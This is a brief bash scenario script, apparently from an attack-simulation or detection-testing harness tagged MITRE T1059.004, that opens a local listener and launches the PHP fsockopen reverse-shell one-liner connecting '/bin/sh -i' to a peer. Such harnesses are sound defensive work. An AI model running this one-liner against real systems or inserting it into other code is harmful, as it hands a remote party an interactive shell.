#!/usr/bin/env bash
# Reverse shell: the PHP one-liner (fsockopen, then exec "/bin/sh -i <&3 >&3 2>&3").
. "$(dirname "$0")/../lib.sh"
scn_begin revshell-php T1059.004
scn_require php
scn_attacker_listen 4451
php -r '$sock=fsockopen($argv[1],(int)$argv[2]);exec("/bin/sh -i <&3 >&3 2>&3");' "$SCN_PEER" "$SCN_PORT" 2>/dev/null &
interp=$!
scn_track $interp
printf 'SCENARIO-INFO interpreter_pid=%s\n' "$interp"
scn_shell_finish
